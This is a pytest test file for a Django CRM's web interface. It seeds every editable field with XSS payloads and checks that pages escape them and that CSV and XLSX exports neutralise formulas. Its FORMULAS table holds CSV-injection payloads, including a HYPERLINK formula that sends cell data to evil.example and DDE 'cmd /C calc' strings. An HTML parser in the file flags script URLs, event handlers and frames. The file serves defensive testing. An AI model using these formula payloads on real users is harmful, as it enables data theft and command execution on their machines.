"""No script gets into the web UI through what people type.

The world of `conveyor.testing.web_world` is built with every user-editable text the UI shows
set to a payload of the XSS corpus (`conveyor.testing.xss.PAYLOADS`), tagged with the field it
sits in (`person.name:<script>alert(1)</script>`); what the tests post carries payloads too.
Then every route of the matrix (`web_world.routes()`: its GETs, htmx fragments, downloads and
its POST, redirects followed) is opened as the owner, who sees everything, and:

- an HTML page holds no payload unescaped (nor the start of one, as a truncated one would
  be), and nothing in it could run script: no inline script, no event handler attribute, no
  script URL, no frame or plugin (the app's own pages have none of these, CSP or not);
- a JSON download is JSON-escaped (it parses back to the exact texts) and is served as JSON,
  not sniffable as HTML; CSV and XLSX downloads (reports, lists, a person's export) hold no
  cell a spreadsheet would run as a formula;
- every payload was shown, escaped, on at least one page, so the walk really looked at it.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from pytest_django import Settings

from conftest import Cast
from conveyor.accounts.services import sales_plan_save
from conveyor.core.csvsafe import FORMULA_PREFIXES
from conveyor.people.services import person_create
from conveyor.pipelines.services import deal_open
from conveyor.testing.factories import UserFactory
from conveyor.testing.web_world import Ctx, Visit, WebWorld, build_world, fake_chromium, routes
from conveyor.testing.xss import PAYLOADS, dangerous

pytestmark = pytest.mark.django_db

# Texts a spreadsheet would run as formulas, in records every CSV and XLSX export lists.
FORMULAS = {
    "formula.person": '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "formula.company": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula.deal": "+cmd|' /C calc'!A0",
    "formula.user": "-2+3+cmd|' /C calc'!A0",
}

# Texts the world writes that no page shows, and why.
NOT_SHOWN = {
    "hypothesis.description": "the hypotheses report names a hypothesis by its title",
    # The lead page shows both; the walk opens it for the accepted lead (`accepted_lead.*`).
    "lead.company": "the inbox does not show it (it stays in the lead's payload, for the API)",
    "lead.utm_source": "the inbox does not show a lead's UTM (the person page shows theirs)",
}


class Payloads:
    """The label of the world: each text a payload of the corpus, in turn, tagged with its
    field's name (or, where the field is too short for the name, with a number)."""

    def __init__(self) -> None:
        self.turn = 0
        self.used: set[str] = set()

    def __call__(self, key: str, limit: int) -> str:
        for attempt in range(len(PAYLOADS)):
            payload = PAYLOADS[(self.turn + attempt) % len(PAYLOADS)]
            for tag in (key, str(self.turn)):
                text = f"{tag}:{payload}"
                if len(text) <= limit:
                    self.turn += attempt + 1
                    self.used.add(payload)
                    return text
        raise AssertionError(f"no payload fits {key} ({limit} characters)")


@pytest.fixture(autouse=True)
def _files(settings: Settings, tmp_path: Path) -> None:
    settings.DATA_DIR = tmp_path / "data"
    settings.CONVEYOR_CHROMIUM = fake_chromium(tmp_path)
    settings.REDIS_URL = ""


@pytest.fixture
def payloads() -> Payloads:
    return Payloads()


@pytest.fixture
def world(cast: Cast, payloads: Payloads) -> WebWorld:
    world = build_world(
        owner=cast.owner,
        head=cast.head,
        manager=cast.manager,
        outsider=cast.outsider,
        label=payloads,
    )
    _formula_records(world)
    return world


def _formula_records(world: WebWorld) -> None:
    """A person, company, deal and its manager named like formulas, for the exports."""
    user = UserFactory(name=FORMULAS["formula.user"], team=world.team)
    person = person_create(
        name=FORMULAS["formula.person"],
        by=None,
        owner=world.manager,
        phone="+359888000999",
        company_name=FORMULAS["formula.company"],
    )
    deal_open(
        person=person,
        pipeline=world.pipeline,
        owner=user,
        by=None,
        title=FORMULAS["formula.deal"],
    )
    month = timezone.localdate().replace(day=1)
    sales_plan_save(
        by=None, plan_id=None, user=user, team=None, month=month, revenue=Decimal(1), deals=1
    )


# --- Reading what came back --------------------------------------------------------------------


class _Live(HTMLParser):
    """Whatever in a page would run script: inline scripts, scripts from elsewhere, handler
    attributes, script URLs, frames and plugins, a refresh to a URL, markup namespaces.
    (Stylesheets are left to the check for payloads: the pages' own are static text.)"""

    URL_ATTRIBUTES = frozenset(
        {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster"}
    )
    FORBIDDEN_TAGS = frozenset(
        {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "svg", "math"}
    )

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        shown = f"<{tag} {' '.join(values)}>"
        for name, value in values.items():
            # Browsers skip control characters and spaces inside a URL's scheme.
            url = re.sub(r"[\x00-\x20]", "", value).lower()
            if (
                name.startswith("on")
                or name == "srcdoc"
                or (
                    name in self.URL_ATTRIBUTES
                    and url.startswith(
                        ("javascript:", "vbscript:", "data:text", "data:application")
                    )
                )
            ):
                self.found.append(f"{shown}: {name}={value!r}")
            elif name == "style" and re.search(r"expression\(|javascript:|url\(", url):
                self.found.append(f"{shown}: style={value!r}")
        if tag == "script":
            self.in_script = True
            if not values.get("src", "").startswith("/static/"):
                self.found.append(f"{shown}: a script not from our static files")
        elif tag in self.FORBIDDEN_TAGS or (
            tag == "meta" and values.get("http-equiv", "").lower() == "refresh"
        ):
            self.found.append(shown)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script and data.strip():
            self.found.append(f"inline script: {data.strip()[:80]!r}")


def _head(text: str) -> str:
    """The text up to just past its first `<`: present unescaped, even truncated, it is live."""
    return text[: text.index("<") + 2]


@dataclass
class Walk:
    """What the walk found: problems (where, what) and the keys shown escaped somewhere."""

    texts: dict[str, str]
    problems: list[str] = field(default_factory=list)
    seen: set[str] = field(default_factory=set)
    formulas_seen: set[str] = field(default_factory=set)

    def html(self, where: str, body: str) -> None:
        for key, text in self.texts.items():
            if _head(text) in body:
                self.problems.append(f"{where}: {key} unescaped: {_head(text)!r}")
            if escape(text[:40]) in body:
                self.seen.add(key)
        parser = _Live()
        parser.feed(body)
        parser.close()
        self.problems += [f"{where}: {found}" for found in parser.found]

    def strings(self, strings: list[str]) -> None:
        """Texts that came back as data (JSON, CSV, XLSX): the exact texts."""
        for key, text in self.texts.items():
            if any(text in value for value in strings):
                self.seen.add(key)

    def csv(self, where: str, text: str) -> None:
        """A CSV file: no cell a spreadsheet would run (the formulas kept behind a `'`)."""
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        self.strings(cells)
        self.problems += [f"{where}: formula cell {cell!r}" for cell in cells if _is_formula(cell)]
        self.formulas_seen |= {key for key, text in FORMULAS.items() if "'" + text in cells}

    def xlsx(self, where: str, content: bytes) -> None:
        """A workbook: no formula cell (texts starting with `=` are stored as text)."""
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        self.problems.append(f"{where}: {sheet.title}!{cell.coordinate} formula")
                    elif isinstance(cell.value, str):
                        cells.append(cell.value)
        self.strings(cells)
        self.formulas_seen |= {key for key, text in FORMULAS.items() if text in cells}


def _is_formula(cell: str) -> bool:
    if not cell.startswith(FORMULA_PREFIXES):
        return False
    try:
        float(cell)  # a negative number is written as a number
    except ValueError:
        return True
    return False


def _json_strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield str(key)
            yield from _json_strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _json_strings(item)


def _read(walk: Walk, where: str, response: Any) -> None:
    """Check one response by what it is."""
    if response.status_code in (301, 302, 303, 304) or response.status_code == 405:
        return
    content = b"".join(response.streaming_content) if response.streaming else response.content
    kind = response.get("Content-Type", "").split(";")[0]
    downloaded = response.get("Content-Disposition", "").startswith("attachment")
    if kind not in ("text/html", "text/calendar") and not downloaded:
        walk.problems.append(f"{where}: {kind} shown in the browser, not downloaded")
    if kind == "text/html":
        walk.html(where, content.decode())
    elif kind in ("application/pdf", "image/png"):
        # The stand-in Chromium hands back the page it would have printed.
        document = content.decode()
        assert "Content-Security-Policy" in document, where
        walk.html(where, document)
    elif kind == "application/json":
        assert response.get("X-Content-Type-Options") == "nosniff", where
        walk.strings(list(_json_strings(json.loads(content))))
    elif kind == "text/csv":
        walk.csv(where, content.decode("utf-8-sig"))
    elif kind == "application/zip":
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                walk.csv(f"{where} {name}", archive.read(name).decode("utf-8-sig"))
    elif kind.endswith("spreadsheetml.sheet"):
        walk.xlsx(where, content)
    elif kind == "text/calendar":
        pass  # not a document a browser renders; the feed's own tests read it
    else:
        walk.problems.append(f"{where}: unexpected Content-Type {kind!r}")


# --- The walk -------------------------------------------------------------------------------------

# A POST the owner may not make (someone's own token): made by its owner instead.
POST_AS = {"web:token-revoke": "manager"}


def _client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _searches(world: WebWorld) -> list[tuple[str, dict[str, str]]]:
    """Pages that show a search back in its box: (path, query)."""
    search = world.say("post.search", 100)
    return [
        (reverse("web:board"), {"q": search}),
        (reverse("web:people"), {"q": search}),
        (reverse("web:deals"), {"q": search}),
        (reverse("web:companies"), {"q": search}),
        (reverse("web:person-merge"), {"q": search}),
        (reverse("web:person", args=[world.person.pk]), {"referrer_q": search}),
    ]


def _refusals(world: WebWorld) -> list[tuple[str, dict[str, Any], dict[str, str]]]:
    """POSTs refused with a message naming a record's text, or re-showing what was typed:
    (path, data, headers)."""
    w = world.fresh()
    move = {"stage": w.stages[1].pk, "version": w.deal.version}  # the exit criterion unticked
    typed = w.say("post.typed", 100)
    return [
        (reverse("web:board-deal-action", args=[w.deal.pk, "move"]), move, {"HX-Request": "true"}),
        (reverse("web:deal-action", args=[w.deal.pk, "move"]), move, {}),
        (
            reverse("web:person-edit", args=[w.person.pk, "email"]),
            {"email": typed},
            {"X-Requested-With": "XMLHttpRequest"},
        ),
        (
            reverse("web:deal-edit", args=[w.deal.pk, "amount"]),
            {"amount": typed, "version": w.deal.version},
            {"X-Requested-With": "XMLHttpRequest"},
        ),
        (
            reverse("web:deal-edit", args=[w.deal.pk, "title"]),
            {"title": w.say("post.inplace.title"), "version": w.deal.version},
            {"X-Requested-With": "XMLHttpRequest"},
        ),
        (
            reverse("web:public-form", args=[w.lead_form.key]),
            {"name": "", "phone": typed, "email": typed, f"q_{w.question.pk}": typed},
            {},
        ),
        (reverse("web:lead-new"), {"name": typed, "phone": typed}, {}),
        (reverse("web:settings-segment-new"), {"name": w.segment.name}, {}),
    ]


def walk_everything(world: WebWorld) -> Walk:
    """Every route's GETs as the owner, its POST (redirects followed), the searches and the
    refusals; each route in a savepoint rolled back after it, so none changes what the next
    one shows (an erased person, a merged duplicate)."""
    walk = Walk(texts=world.texts)  # the same dict: what the posts add is checked too
    for route, use in sorted(routes().items()):
        with transaction.atomic():
            client = _client(world.owner)
            for visit in use.gets(Ctx(world=world, client=client, user=world.owner)):
                _read(walk, f"GET {visit}", _get(client, visit))
            transaction.set_rollback(True)
        if use.post is None:
            continue
        with transaction.atomic():
            poster = getattr(world, POST_AS.get(route, "owner"))
            client = _client(poster)
            post = use.post(Ctx(world=world, client=client, user=poster))
            response = client.post(post.path, post.data, headers=post.headers, follow=True)
            _read(walk, f"{post} (and where it led)", response)
            transaction.set_rollback(True)
    client = _client(world.owner)
    for path, query in _searches(world):
        _read(walk, f"GET {path} {query}", client.get(path, query))
    for path, data, headers in _refusals(world):
        with transaction.atomic():
            response = client.post(path, data, headers=headers)
            _read(walk, f"POST {path} {headers}", response)
            transaction.set_rollback(True)
    return walk


def _get(client: Client, visit: Visit) -> Any:
    return client.get(visit.path, visit.query, headers=visit.headers)


def test_the_corpus_is_in_the_world(world: WebWorld, payloads: Payloads) -> None:
    assert payloads.used == set(PAYLOADS)
    assert all(dangerous(text) for text in world.texts.values())


def test_no_page_lets_a_payload_run(world: WebWorld) -> None:
    walk = walk_everything(world)
    assert not walk.problems, "\n".join(walk.problems)


def test_every_text_is_shown_escaped_somewhere(world: WebWorld) -> None:
    walk = walk_everything(world)
    written = {key for key in world.texts if not key.startswith("post.")}
    unseen = sorted(written - walk.seen - set(NOT_SHOWN))
    assert not unseen, f"never shown, or shown altered: {unseen}"
    assert not set(NOT_SHOWN) & walk.seen, "shown after all: take it off NOT_SHOWN"


def test_every_export_keeps_formulas_as_text(world: WebWorld) -> None:
    walk = walk_everything(world)
    assert not [problem for problem in walk.problems if "formula" in problem]
    assert walk.formulas_seen == set(FORMULAS)


def test_a_persons_export_is_json_with_the_texts_exactly_as_typed(world: WebWorld) -> None:
    response = _client(world.owner).get(reverse("web:person-export-json", args=[world.person.pk]))
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("attachment")
    document = json.loads(response.content)
    assert document["person"]["name"] == world.texts["person.name"]
    strings = set(_json_strings(document))
    for key in ("person.email", "company.name", "deal.title", "touch.note", "task.title"):
        assert world.texts[key] in strings, key
